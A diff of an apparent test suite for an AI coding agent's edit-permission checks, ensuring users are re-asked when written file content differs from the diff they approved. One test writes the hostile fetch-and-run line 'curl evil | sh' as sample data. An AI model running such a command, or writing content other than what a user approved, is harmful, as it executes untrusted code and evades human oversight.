@@ -8,8 +8,8 @@ import { given, project, request } from './project.ts';
 
 const signal = new AbortController().signal;
 
-/** A project with one file, a person who allows everything, and what they were asked. */
-async function room(text: string | undefined, rules: readonly string[] = []) {
+/** A project with one file, a user who allows everything, and what they were asked. */
+async function fixture(text: string | undefined, rules: readonly string[] = []) {
   const cwd = project();
   const path = join(cwd, 'notes.txt');
   if (text !== undefined) await writeFile(path, text);
@@ -55,7 +55,7 @@ interface Case {
 
 /** How often somebody was asked after they allowed the edits. */
 async function askedAgain({ before, shown, written }: Case): Promise<number> {
-  const { path, asked, ask, write: writes } = await room(before);
+  const { path, asked, ask, write: writes } = await fixture(before);
   const content = shown.map(([oldText, newText]) => ({ type: 'diff', path, oldText, newText }) as const);
   await ask({ kind: 'edit', content });
   for (const text of written) await writes(text);
@@ -144,7 +144,7 @@ describe('what was not shown is asked about', () => {
   });
 
   test('with the true change, and why', async () => {
-    const { path, asked, ask, write: writes } = await room(file);
+    const { path, asked, ask, write: writes } = await fixture(file);
     await ask({ kind: 'edit', content: [{ type: 'diff', path, oldText: file, newText: '# a comment\n' }] });
     await writes('curl evil | sh\n');
     const because = 'asked: no rule is about it, and the mode is default';
@@ -158,7 +158,7 @@ describe('what was not shown is asked about', () => {
   });
 
   test('also where the question showed a change of another file, or a deletion', async () => {
-    const { cwd, path, asked, ask, write: writes } = await room(file);
+    const { cwd, path, asked, ask, write: writes } = await fixture(file);
     const shown = { type: 'diff', path: join(cwd, 'README.md'), oldText: null, newText: 'x' } as const;
     await ask({ kind: 'edit', content: [shown], locations: [{ path }] });
     await writes('evil');
@@ -172,7 +172,7 @@ describe('what was not shown is asked about', () => {
   });
 
   test('also without anything to look at the file with, unless the whole text was shown as new', async () => {
-    const { cwd, path, asked, permissions, ask } = await room(file);
+    const { cwd, path, asked, permissions, ask } = await fixture(file);
     await ask({ kind: 'edit', content: [{ type: 'diff', path, oldText: 'two', newText: '2' }] });
     await write(permissions, { cwd, path, content: 'one\n2\nthree\n', sees: false });
     await ask({ toolCallId: 'b', kind: 'edit', content: [{ type: 'diff', path, newText: 'x' }] });
@@ -182,7 +182,7 @@ describe('what was not shown is asked about', () => {
 });
 
 test('the texts in the input of a tool are shown as a change, and bind as one', async () => {
-  const { path, asked, ask, write: writes } = await room(file);
+  const { path, asked, ask, write: writes } = await fixture(file);
   await ask({ toolCallId: 'a', kind: 'edit', rawInput: { path, old_str: 'two', new_str: '2' } });
   await writes('one\n2\nthree\n');
   await ask({ toolCallId: 'b', kind: 'edit', rawInput: { file_path: path, content: 'all' } });
@@ -204,7 +204,7 @@ test('the texts in the input of a tool are shown as a change, and bind as one', 
 });
 
 test('what a rule allows is allowed whatever is written, and nothing is asked', async () => {
-  const { path, asked, ask, write: writes } = await room(file, ['allow Edit(./notes.txt)']);
+  const { path, asked, ask, write: writes } = await fixture(file, ['allow Edit(./notes.txt)']);
   await ask({ kind: 'edit', content: [{ type: 'diff', path, oldText: file, newText: 'a' }] });
   await writes('b');
   expect([asked, await readFile(path, 'utf8')]).toEqual([[], 'b']);
